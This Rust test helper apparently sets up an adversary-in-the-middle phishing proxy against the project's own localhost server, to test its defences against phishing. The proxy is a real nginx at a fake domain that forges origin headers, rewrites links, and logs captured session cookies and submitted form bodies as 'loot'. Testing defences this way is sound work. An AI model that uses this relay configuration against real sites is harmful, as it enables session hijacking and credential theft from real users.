//! A page that looks like ours and isn't: a real nginx at another name, as kits set one up. It passes on whatever is
//! typed, says that it was typed at us, and keeps the session that comes back.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::support::browser::Browser;
use crate::support::daemon::{Daemon, free_port, is_root};

/// What its visitors take for us.
const NAME: &str = "http://countersign.phish.test";

/// The address that it comes from, as a proxy before us would tell.
pub const ADDRESS: &str = "203.0.113.9";

/// One at work, ended when this is dropped.
pub struct Phishing {
    daemon: Daemon,
    port: u16,
    loot: PathBuf,
}

impl Phishing {
    /// Sets one up in this folder, before the server on that port of localhost.
    pub async fn before(port: u16, folder: &Path) -> Self {
        let folder = folder.join("phishing");
        std::fs::create_dir(&folder).unwrap();
        // What is free for a moment may be taken by the next.
        for _ in 0..3 {
            let mut phishing = Self::at(free_port(), port, &folder);
            for _ in 0..200 {
                let seen = phishing.victim().try_send("GET", "/healthz", None).await;
                if seen.is_ok_and(|seen| seen.status == 200) {
                    return phishing;
                }
                if !phishing.daemon.lives() {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
        panic!("{}", std::fs::read_to_string(folder.join("log")).unwrap());
    }

    fn at(own: u16, port: u16, folder: &Path) -> Self {
        let path = |name: &str| folder.join(name).to_str().unwrap().to_owned();
        let temporary: String = ["client_body", "proxy", "fastcgi", "uwsgi", "scgi"]
            .map(|name| format!("{name}_temp_path {};\n", path(name)))
            .concat();
        let user = if is_root() { "user root;" } else { "" };
        let (ours, loot) = (format!("localhost:{port}"), path("loot"));
        let text = format!(
            "{user} daemon off; pid {pid}; worker_processes 1;\n\
             events {{ worker_connections 64; }}\n\
             http {{\n{temporary}\
             log_format loot escape=json '{{\"session\":\"$upstream_cookie_countersign\",\"sent\":\"$request_body\"}}';\n\
             server {{\n\
             listen 127.0.0.1:{own};\n\
             access_log {loot} loot;\n\
             location / {{\n\
             proxy_pass http://127.0.0.1:{port};\n\
             proxy_set_header Host {ours};\n\
             proxy_set_header Origin http://{ours};\n\
             proxy_set_header Referer http://{ours}$uri;\n\
             proxy_set_header X-Forwarded-For {ADDRESS};\n\
             proxy_set_header Accept-Encoding \"\";\n\
             proxy_redirect http://{ours}/ {NAME}/;\n\
             sub_filter http://{ours} {NAME};\n\
             sub_filter_once off;\n\
             }}\n}}\n}}\n",
            pid = path("pid"),
        );
        std::fs::write(folder.join("conf"), text).unwrap();
        let mut command = Command::new("/usr/sbin/nginx");
        command.args(["-e", "stderr", "-c", &path("conf"), "-p", &path("")]);
        Self {
            daemon: Daemon::start(command, &folder.join("log")),
            port: own,
            loot: loot.into(),
        }
    }

    /// The browser of somebody who has followed its link.
    pub fn victim(&self) -> Browser {
        Browser::new(self.port, NAME)
    }

    /// What it has kept: the session that came back last, and everything that was typed.
    pub async fn loot(&self) -> (String, String) {
        for _ in 0..200 {
            let kept = std::fs::read_to_string(&self.loot).unwrap();
            let lines = kept.lines().map(serde_json::from_str::<serde_json::Value>);
            let lines: Vec<_> = lines.filter_map(Result::ok).collect();
            let all = |of: &str| {
                let all = lines.iter().filter_map(|line| line[of].as_str());
                all.filter(|text| !text.is_empty())
                    .map(str::to_owned)
                    .collect::<Vec<_>>()
            };
            if let Some(session) = all("session").pop() {
                return (session, all("sent").join("\n"));
            }
            // It is written after the answer was.
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        panic!("no session has come by");
    }
}
